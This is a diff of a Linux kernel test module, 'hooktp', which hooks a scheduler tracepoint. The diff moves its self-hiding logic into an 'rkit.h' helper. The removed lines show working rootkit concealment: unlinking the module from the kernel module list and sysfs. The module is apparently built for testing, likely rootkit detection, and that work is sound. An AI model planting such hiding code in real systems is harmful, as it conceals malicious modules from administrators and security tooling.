@@ -16,11 +16,10 @@
  * teardown would find no directory).  For testing only; loaded in a
  * disposable test guest.
  */
-#include <linux/kobject.h>
-#include <linux/tracepoint.h>
-#include <linux/module.h>
 #include <linux/proc_fs.h>
-#include <linux/rculist.h>
+#include <linux/tracepoint.h>
+
+#include "rkit.h"
 
 static char *tp = "sched_process_fork";
 module_param(tp, charp, 0444);
@@ -28,9 +27,7 @@ static int hide = 1;
 module_param(hide, int, 0444);
 static ulong hits;
 
-static struct list_head *modules_head;
-static struct kset *kset;
-static bool hidden, registered;
+static bool registered;
 
 static struct tracepoint *found;
 
@@ -45,17 +42,6 @@ static void match(struct tracepoint *t, void *priv)
 		found = t;
 }
 
-static struct list_head *find_head(void)
-{
-	struct list_head *p;
-	int n = 0;
-
-	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
-		if ((unsigned long)p < MODULES_VADDR || (unsigned long)p >= MODULES_END)
-			return p;
-	return NULL;
-}
-
 static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
 {
 	if (registered) {
@@ -63,13 +49,7 @@ static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, lof
 		tracepoint_synchronize_unregister();
 	}
 	registered = false;
-	if (hidden) {
-		list_add_tail_rcu(&THIS_MODULE->list, modules_head);
-		spin_lock(&kset->list_lock);
-		list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &kset->list);
-		spin_unlock(&kset->list_lock);
-		hidden = false;
-	}
+	rkit_unhide();
 	pr_info("hooktp: probe removed, module listed\n");
 	return len;
 }
@@ -92,17 +72,17 @@ static int __init hooktp_init(void)
 	pr_info("hooktp: probe %px on tracepoint %s at %px\n", probe, tp, found);
 	if (!hide)
 		return 0;
-	modules_head = find_head();
-	kset = THIS_MODULE->mkobj.kobj.kset;
-	if (!modules_head || !kset || !proc_create("hooktp", 0200, NULL, &ctl_ops)) {
+	if (!proc_create("hooktp", 0200, NULL, &ctl_ops)) {
 		tracepoint_probe_unregister(found, probe, NULL);
 		tracepoint_synchronize_unregister();
+		return -ENOMEM;
+	}
+	if (rkit_hide()) {
+		tracepoint_probe_unregister(found, probe, NULL);
+		tracepoint_synchronize_unregister();
+		remove_proc_entry("hooktp", NULL);
 		return -ENOENT;
 	}
-	kset_get(kset);
-	list_del(&THIS_MODULE->list);
-	kobject_del(&THIS_MODULE->mkobj.kobj);
-	hidden = true;
 	return 0;
 }
 
